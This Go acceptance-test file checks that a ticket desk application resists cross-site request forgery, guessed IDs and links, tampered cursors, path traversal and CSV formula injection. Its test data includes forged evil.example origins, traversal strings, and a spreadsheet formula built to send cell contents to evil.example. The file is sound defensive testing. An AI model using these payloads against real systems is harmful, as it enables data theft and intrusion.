package acceptance

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"huiyin/shared/web/cookie"
	api "huiyin/shared/web/desk"
)

// signedInAs is a browser in which the account of a role is signed in.
func (d *desk) signedInAs(t *testing.T, role string) *browser {
	t.Helper()
	b := &browser{T: t, d: d}
	for _, user := range d.Users {
		if user.Role == role {
			b.ask("/console/signin", "name", user.Username, "password", user.Password)
		}
	}
	b.signedIn(true)
	return b
}

// rule: PD-11
// What changes something has to come from a page of ours, of this session; and
// no GET changes anything.
func TestAnotherSiteCantMakeABrowserChangeAnything(t *testing.T) {
	t.Parallel()
	b, other := the.signedInAs(t, "agent"), the.signedInAs(t, "agent")
	number, _ := the.inquire(t, "service", the.now())
	defer the.putAway(t, "service", number)
	page := b.ask("/console/tickets/" + number)
	good, theirs := b.field(page, "_token"), other.field(other.ask("/console/tickets/"+number), "_token")
	if good == theirs {
		t.Fatal("two sessions have one text against forgery")
	}
	before := the.mustTicket(t, number)
	form, session := "application/x-www-form-urlencoded", []string{"Cookie", cookie.Name + "=" + b.cookie}
	same := append(session, "Sec-Fetch-Site", "same-origin")
	host, err := url.Parse(the.API)
	if err != nil {
		t.Fatal(err)
	}
	console, action := "/console/tickets/"+number, "/desk/tickets/"+number+"/notes"
	note := func(token string) string {
		return url.Values{"_form": {"addNote"}, "text": {"von anderswo"}, "_token": {token}}.Encode()
	}
	for name, c := range map[string]struct {
		path, kind, body string
		headers          []string
	}{
		"form without a token":        {console, form, note(""), same},
		"form of another session":     {console, form, note(theirs), same},
		"form with a letter changed":  {console, form, note(good[1:] + "x"), same},
		"form of another site":        {console, form, note(good), append(session, "Sec-Fetch-Site", "cross-site")},
		"form of a neighbour":         {console, form, note(good), append(session, "Sec-Fetch-Site", "same-site")},
		"form of another origin":      {console, form, note(good), append(session, "Origin", "https://evil.example")},
		"form of an origin alike":     {console, form, note(good), append(session, "Origin", "http://"+host.Host+".evil.example")},
		"form of nowhere":             {console, form, note(good), append(session, "Origin", "null")},
		"JSON without a token":        {action, "application/json", `{"text":"x"}`, same},
		"JSON of another session":     {action, "application/json", `{"text":"x"}`, append(same, cookie.Header, theirs)},
		"JSON of another site":        {action, "application/json", `{"text":"x"}`, append(session, cookie.Header, good, "Origin", "https://evil.example")},
		"JSON sent as text":           {action, "text/plain", `{"text":"x"}`, same},
		"form sent to the operation":  {action, form, "text=x", same},
		"sign-out of another site":    {"/console/signout", form, "_token=" + good + "&everywhere=1", append(session, "Sec-Fetch-Site", "cross-site")},
		"token in the address only":   {console + "?_token=" + url.QueryEscape(good), form, note(""), same},
		"method in a field":           {console, form, note("") + "&_method=PUT", same},
		"token of another name":       {console, form, strings.Replace(note(good), "_token", "token", 1), same},
		"sign-in, which needs no one": {"/console/signin", form, "name=x&password=y", append(session, "Sec-Fetch-Site", "cross-site")},
	} {
		if got := the.send(t, http.MethodPost, c.path, c.kind, c.body, c.headers...); got.status != http.StatusForbidden && got.status != http.StatusUnsupportedMediaType {
			t.Errorf("%s: %d %.200s", name, got.status, got.body)
		}
	}
	b.signedIn(true) // the sign-out was not done either

	asked := url.Values{"_form": {"addNote"}, "text": {"x"}, "_token": {good}, "_method": {"POST"}}.Encode()
	for _, r := range api.Routes() {
		if !strings.Contains(r.Path, "{number}") || strings.Contains(r.Path, "{id}") || strings.Contains(r.Path, "{day}") {
			continue
		}
		path := strings.Replace(r.Path, "{number}", number, 1) + "?" + asked
		for _, method := range []string{http.MethodGet, http.MethodHead} {
			the.send(t, method, path, "", "", same...)
		}
	}
	for _, path := range []string{console, console + "/take", console + "/files", "/console/signout", "/console/queue"} {
		the.send(t, http.MethodGet, path+"?"+asked, "", "", append(same, "Accept", "text/html")...)
	}
	b.signedIn(true)
	if after := the.mustTicket(t, number); after.Version != before.Version {
		t.Errorf("the ticket was at version %d and is at %d", before.Version, after.Version)
	}
	got := the.send(t, http.MethodPost, console, form, note(good), append(same, "Accept", "text/html")...)
	if after := the.mustTicket(t, number); after.Version != before.Version+1 {
		t.Errorf("and with all that is right nothing happens: %d %.300s", got.status, got.body)
	}
}

// rule: PD-11
// Whoever guesses gets the same answer for what is there and what is not.
func TestIdsCantBeGuessed(t *testing.T) {
	t.Parallel()
	r, customer := the.complain(t)
	second, _ := the.complain(t)
	last4 := string(customer[len(customer)-4:])
	wrong := "0000"
	if last4 == wrong {
		wrong = "0001"
	}
	unknown := the.post(t, "/status", map[string]any{"number": "222222222", "last4": last4})
	for name, body := range map[string]map[string]any{
		"wrong digits": {"number": r.Number, "last4": wrong}, "another's digits": {"number": second.Number, "last4": wrong},
		"no such number": {"number": "222222223", "last4": last4},
	} {
		if got := the.post(t, "/status", body); got.status != unknown.status || shape(got.body) != shape(unknown.body) {
			t.Errorf("%s: %d %s, not %d %s", name, got.status, got.body, unknown.status, unknown.body)
		}
	}

	agent := the.as(t, "agent")
	path := "/desk/tickets/" + r.Number + "/hand-over"
	the.post(t, path, map[string]any{"to": "department", "name": "理赔部", "summary": "核对"}, agent...).into(t, http.StatusOK, nil)
	var link struct{ Path string }
	the.post(t, path+"/link", map[string]any{}, agent...).into(t, http.StatusOK, &link)
	page := []string{"Accept", "text/html"}
	the.send(t, http.MethodGet, "/"+link.Path, "", "", page...).into(t, http.StatusOK, nil)
	at := strings.LastIndex(link.Path, "/") + 1
	token := link.Path[at:]
	for i := 0; i < len(token); i += 4 {
		changed := []byte(token)
		changed[i] = map[bool]byte{true: 'B', false: 'A'}[changed[i] == 'A']
		if got := the.send(t, http.MethodGet, "/"+link.Path[:at]+string(changed), "", "", page...); got.status != http.StatusNotFound {
			t.Errorf("with letter %d changed the link opens: %d", i, got.status)
		}
	}
	for _, guess := range []string{token[:len(token)-1], token + "A", r.Number, "..%2F" + token, strings.Repeat("A", 2000)} {
		if got := the.send(t, http.MethodGet, "/"+link.Path[:at]+guess, "", "", page...); got.status < 400 || got.status >= 500 {
			t.Errorf("%.80s: %d", guess, got.status)
		}
	}

	// A file is one of its ticket, and of no other's.
	var offer struct {
		ID, URL string
		Fields  map[string]string
	}
	the.post(t, "/desk/tickets/"+r.Number+"/attachments", map[string]any{}, agent...).into(t, http.StatusCreated, &offer)
	if status, answer := upload(t, offer.URL, offer.Fields, "\x89PNG\r\n\x1a\n"+strings.Repeat("\x00", 100)); status >= 300 {
		t.Fatalf("send a file: %d %s", status, answer)
	}
	for _, number := range []string{second.Number, "222222222"} {
		the.send(t, http.MethodGet, "/desk/tickets/"+number+"/attachments/"+offer.ID, "", "", agent...).into(t, http.StatusNotFound, nil)
		if got := the.send(t, http.MethodPut, "/desk/tickets/"+number+"/attachments/"+offer.ID, "application/json", `{"name":"x.png"}`, agent...); got.status != http.StatusNotFound && got.status != http.StatusUnprocessableEntity {
			t.Errorf("another ticket's file is kept on %s: %d %s", number, got.status, got.body)
		}
	}
	for _, path := range []string{"customers", "places", "tariffs", "violations", "bulletins", "handbook", "jobs", "calendars", "texts", "staff/nobody/absence"} {
		for _, id := range []string{"NOBODY", "..", "%2e%2e%2fstaff", "PERSON%23" + r.Number, "%00", "x%0ay", strings.Repeat("9", 300)} {
			if got := the.send(t, http.MethodGet, "/desk/"+path+"/"+id, "", "", the.as(t, "admin")...); got.status >= 500 || got.status == http.StatusOK {
				t.Errorf("%s/%s: %d %.200s", path, id, got.status, got.body)
			}
		}
	}
}

// shape is an answer without what is another in every answer.
func shape(body []byte) string {
	var p map[string]any
	if json.Unmarshal(body, &p) != nil {
		return string(body)
	}
	delete(p, "instance")
	return fmt.Sprint(p)
}

// upload sends a file by the form that was offered.
func upload(t *testing.T, to string, fields map[string]string, content string) (int, string) {
	t.Helper()
	var body strings.Builder
	form := multipart.NewWriter(&body)
	for name, value := range fields {
		if err := form.WriteField(name, value); err != nil {
			t.Fatal(err)
		}
	}
	part, err := form.CreateFormFile("file", "x.png")
	if err == nil {
		_, err = io.WriteString(part, content)
	}
	if err == nil {
		err = form.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	response, err := http.Post(to, form.FormDataContentType(), strings.NewReader(body.String()))
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	answer, err := io.ReadAll(response.Body)
	if err != nil {
		t.Fatal(err)
	}
	return response.StatusCode, string(answer)
}

// pagedLists are the operations with a cursor, as the API describes itself.
func pagedLists(t *testing.T) (paths []string) {
	t.Helper()
	var document struct {
		Paths map[string]map[string]struct {
			Parameters []struct{ Name string }
		}
	}
	the.send(t, http.MethodGet, "/openapi.json", "", "").into(t, http.StatusOK, &document)
	for path, methods := range document.Paths {
		for _, p := range methods["get"].Parameters {
			if p.Name == "cursor" && strings.HasPrefix(path, "/desk/") {
				paths = append(paths, path)
			}
		}
	}
	if len(paths) < 10 {
		t.Fatalf("lists with a cursor: %q", paths)
	}
	slices.Sort(paths)
	return paths
}

// A cursor opens the list it was made for, as it was made, and nothing else.
func TestACursorOpensNoOtherList(t *testing.T) {
	t.Parallel()
	var numbers []string
	for range 3 {
		number, _ := the.inquire(t, "spare", the.now())
		numbers = append(numbers, number)
	}
	defer the.putAway(t, "spare", numbers...)
	var page struct{ Next string }
	the.send(t, http.MethodGet, "/desk/tickets?scope=team&team=spare&limit=1", "", "", the.as(t, "admin")...).into(t, http.StatusOK, &page)
	if page.Next == "" {
		t.Fatal("the list has no second page")
	}
	the.send(t, http.MethodGet, "/desk/tickets?scope=team&team=spare&limit=1&cursor="+page.Next, "", "", the.as(t, "admin")...).into(t, http.StatusOK, nil)
	changed := []byte(page.Next)
	changed[len(changed)/2] = map[bool]byte{true: 'B', false: 'A'}[changed[len(changed)/2] == 'A']
	refused := func(path, cursor string) {
		t.Helper()
		if got := the.send(t, http.MethodGet, path+"cursor="+url.QueryEscape(cursor), "", "", the.as(t, "admin")...); got.status != http.StatusUnprocessableEntity {
			t.Errorf("%s with %.60s: %d %.200s", path, cursor, got.status, got.body)
		}
	}
	refused("/desk/tickets?scope=team&team=service&", page.Next)
	refused("/desk/tickets?scope=team&team=spare&", string(changed))
	refused("/desk/tickets?scope=team&team=spare&", page.Next+"A")
	for _, path := range pagedLists(t) {
		path = strings.NewReplacer("{number}", numbers[0], "{id}", "01JZZZZZZZZZZZZZZZZZZZZZZZ", "{year}", "2026", "{month}", "2026-06", "{day}", "2026-06-08").Replace(path)
		query := "?"
		if path == "/desk/export" {
			query = "?from=2026-06-01&to=2026-06-09&"
		}
		for _, cursor := range []string{page.Next, string(changed), "AAAA", "%", strings.Repeat("A", 900), "TEAM#spare"} {
			if path == "/desk/tickets" && cursor == page.Next {
				continue // of another scope: told above
			}
			got := the.send(t, http.MethodGet, path+query+"cursor="+url.QueryEscape(cursor), "", "", the.as(t, "admin")...)
			if got.status != http.StatusUnprocessableEntity && got.status != http.StatusNotFound {
				t.Errorf("%s with %.60s: %d %.200s", path, cursor, got.status, got.body)
			}
		}
	}
}

// formulas are what a spreadsheet would run.
var formulas = []string{`=HYPERLINK("http://evil.example?"&A1,"看")`, "+1+1", "-2+3", "@SUM(1)", "＝1+1", "\t=1+1", " =1+1"}

// No cell of an export is one that a spreadsheet runs.
func TestNoFormulaComesOutOfAnExport(t *testing.T) {
	t.Parallel()
	agent := the.as(t, "agent")
	var opened []string
	for _, evil := range formulas {
		typed, _ := newPhone()
		body := complaint(typed)
		maps := map[string]any{"type": "complaint", "name": evil, "region": evil, "from": evil, "agent": evil, "text": evil}
		for field, value := range maps {
			body[field] = value
		}
		got := the.post(t, "/desk/tickets", body, agent...)
		if got.status == http.StatusUnprocessableEntity {
			continue // a tab is no part of a name
		}
		var made receipt
		got.into(t, http.StatusCreated, &made)
		opened = append(opened, made.Number)
	}
	if len(opened) < 5 {
		t.Fatalf("opened %d", len(opened))
	}
	got := the.send(t, http.MethodGet, "/desk/export?from=2026-06-09&to=2026-06-09", "", "", the.as(t, "supervisor")...)
	got.into(t, http.StatusOK, nil)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(got.body), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	hostile := 0
	for _, row := range rows {
		for i, cell := range row {
			if strings.ContainsAny(strings.TrimLeft(cell, " \t\r\n\u3000"), "=+-@＝＋－＠") && strings.IndexAny(strings.TrimLeft(cell, " \t\r\n\u3000"), "=+-@＝＋－＠") == 0 && !number(cell) {
				t.Errorf("%s is %q", rows[0][i], cell)
			}
			if strings.HasPrefix(cell, "'") {
				hostile++
			}
		}
	}
	if hostile == 0 {
		t.Error("nothing hostile was in it")
	}
}

// number tells whether a cell is a number, which may be below zero.
func number(cell string) bool {
	var f float64
	var rest string
	n, _ := fmt.Sscanf(cell, "%g%s", &f, &rest)
	return n == 1
}
